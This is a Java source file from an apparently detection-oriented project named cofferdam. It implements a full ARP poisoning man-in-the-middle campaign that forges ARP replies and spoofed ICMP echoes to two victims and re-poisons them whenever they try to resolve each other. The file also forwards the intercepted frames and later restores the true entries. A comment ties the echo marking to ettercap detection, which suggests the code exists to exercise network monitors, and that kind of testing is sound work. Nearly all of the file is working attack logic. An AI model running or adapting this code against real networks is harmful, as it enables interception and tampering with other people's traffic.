package cofferdam.attacks.network;

import cofferdam.attacks.Attack;
import cofferdam.monitor.address.Ipv4Address;
import cofferdam.monitor.address.MacAddress;
import cofferdam.monitor.packet.ArpPacket;
import cofferdam.monitor.packet.ArpPacket.Operation;
import cofferdam.monitor.packet.IcmpEcho;
import cofferdam.monitor.packet.Ipv4Packet;

import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.function.Consumer;

/**
 * One run of {@link ArpPoisoning}. A victim that does not answer is asked again with every round
 * and poisoned once it does; the campaign becomes ready without it.
 */
final class PoisoningCampaign implements Attack.Campaign {

    /**
     * Identifier, sequence number and IP identification of the echoes, by which detectors know
     * ettercap.
     */
    static final int ECHO_MARK = 0x7ee7;

    /** Time between two packets of a round. */
    static final Duration STORM_DELAY = Duration.ofMillis(10);

    /** Time between two rounds of the warm-up, and of putting back. */
    static final Duration ROUND_GAP = Duration.ofSeconds(1);

    /** Rounds of true replies at the end. */
    static final int TRUE_ROUNDS = 3;

    /** How long after one victim has asked for the other both are poisoned again. */
    static final Duration ANSWER_DELAY = Duration.ofMillis(50);

    /** The same once more, for systems that ignore a reply within a second of a change. */
    static final Duration LATE_ANSWER_DELAY = Duration.ofMillis(1_100);

    private static final int MAXIMUM_ROUNDS = 1_000_000;
    private static final int TIME_TO_LIVE = 64;

    private final Foothold foothold;
    private final AddressResolution victims;
    private final Forwarder forwarder;
    private final int warmUpRounds;
    private final Duration interval;
    private final Set<Ipv4Address> poisoned = new LinkedHashSet<>();
    private Phase phase = Phase.RESOLVING;
    private boolean answering;

    private enum Phase {
        RESOLVING,
        WARMING_UP,
        HOLDING,
        PUTTING_BACK
    }

    PoisoningCampaign(Foothold foothold, int warmUpRounds, Duration interval) {
        this.foothold = foothold;
        this.warmUpRounds = warmUpRounds;
        this.interval = interval;
        victims = new AddressResolution(foothold);
        forwarder = new Forwarder(foothold, victims);
    }

    void begin() {
        foothold.listen(this::heard);
        victims.begin(this::warmUp);
    }

    @Override
    public boolean ready() {
        return phase == Phase.HOLDING;
    }

    @Override
    public void stop() {
        if (stopped() || phase == Phase.PUTTING_BACK) {
            return;
        }
        phase = Phase.PUTTING_BACK;
        foothold.agenda().clear();
        List<byte[]> truth = trueReplies();
        if (truth.isEmpty()) {
            finish();
            return;
        }
        foothold.agenda()
                .repeat(
                        ROUND_GAP,
                        TRUE_ROUNDS,
                        round -> storm(truth, foothold.transmitter()::putBack),
                        this::finish);
    }

    @Override
    public boolean stopped() {
        return foothold.closed();
    }

    private void heard(byte[] frame) {
        victims.heard(frame);
        if (phase == Phase.HOLDING && asksForOtherVictim(frame)) {
            poisonSoon();
        }
        if (phase != Phase.RESOLVING) {
            forwarder.heard(frame);
        }
    }

    private boolean asksForOtherVictim(byte[] frame) {
        return ArpPacket.inFrame(frame)
                .filter(packet -> packet.operation() == Operation.REQUEST
                        && !packet.senderHardware().equals(foothold.hardware())
                        && foothold.victims().contains(packet.senderProtocol())
                        && other(packet.senderProtocol()).equals(packet.targetProtocol()))
                .isPresent();
    }

    /**
     * The true answer is on its way and will be believed: false ones follow it. One such wait at a
     * time.
     */
    private void poisonSoon() {
        if (answering) {
            return;
        }
        answering = true;
        foothold.agenda().after(ANSWER_DELAY, this::poison);
        foothold.agenda().after(LATE_ANSWER_DELAY, () -> {
            answering = false;
            poison();
        });
    }

    private void warmUp() {
        phase = Phase.WARMING_UP;
        foothold.agenda().repeat(ROUND_GAP, warmUpRounds, round -> poison(), this::hold);
    }

    private void hold() {
        phase = Phase.HOLDING;
        foothold.report("warm-up done, " + poisoned.size() + " victims poisoned");
        foothold.agenda()
                .after(
                        interval,
                        () -> foothold.agenda()
                                .repeat(interval, MAXIMUM_ROUNDS, round -> poison(), () -> {}));
    }

    /**
     * One round: an echo to each victim that is new, so that it has an entry, then the false
     * replies.
     */
    private void poison() {
        victims.ask();
        List<byte[]> echoes = new ArrayList<>();
        List<byte[]> replies = new ArrayList<>();
        for (Ipv4Address victim : foothold.victims()) {
            victims.of(victim).ifPresent(at -> {
                if (poisoned.add(victim)) {
                    echoes.add(echo(victim, at));
                }
                replies.add(reply(victim, at, foothold.hardware()));
            });
        }
        echoes.addAll(replies);
        storm(echoes, foothold.transmitter()::send);
    }

    private void storm(List<byte[]> frames, Consumer<byte[]> way) {
        foothold.agenda()
                .repeat(
                        STORM_DELAY,
                        frames.size(),
                        index -> way.accept(frames.get(index)),
                        () -> {});
    }

    /** What puts the poisoned entries right, as far as the attacker knows the truth. */
    private List<byte[]> trueReplies() {
        List<byte[]> frames = new ArrayList<>();
        for (Ipv4Address victim : poisoned) {
            Optional<MacAddress> truth = victims.of(other(victim));
            if (truth.isEmpty()) {
                foothold.report("cannot put back the entry of " + victim + " for " + other(victim));
            }
            victims.of(victim)
                    .ifPresent(at -> truth.ifPresent(mac -> frames.add(reply(victim, at, mac))));
        }
        return frames;
    }

    private void finish() {
        foothold.report("forwarded " + forwarder.forwarded() + " frames");
        foothold.close();
    }

    /** Tells the victim at {@code at} that the other one is at {@code claim}. */
    private byte[] reply(Ipv4Address victim, MacAddress at, MacAddress claim) {
        return ArpPacket.reply(claim, other(victim), at, victim).toFrame(at, foothold.hardware());
    }

    /**
     * An echo request as if from the other victim: to answer it, the victim must look that one up.
     */
    private byte[] echo(Ipv4Address victim, MacAddress at) {
        byte[] message = new IcmpEcho(false, ECHO_MARK, ECHO_MARK, new byte[0]).toBytes();
        return new Ipv4Packet(
                        other(victim), victim, ECHO_MARK, TIME_TO_LIVE, Ipv4Packet.ICMP, message)
                .toFrame(at, foothold.hardware());
    }

    private Ipv4Address other(Ipv4Address victim) {
        List<Ipv4Address> both = foothold.victims();
        return both.get(0).equals(victim) ? both.get(1) : both.get(0);
    }
}
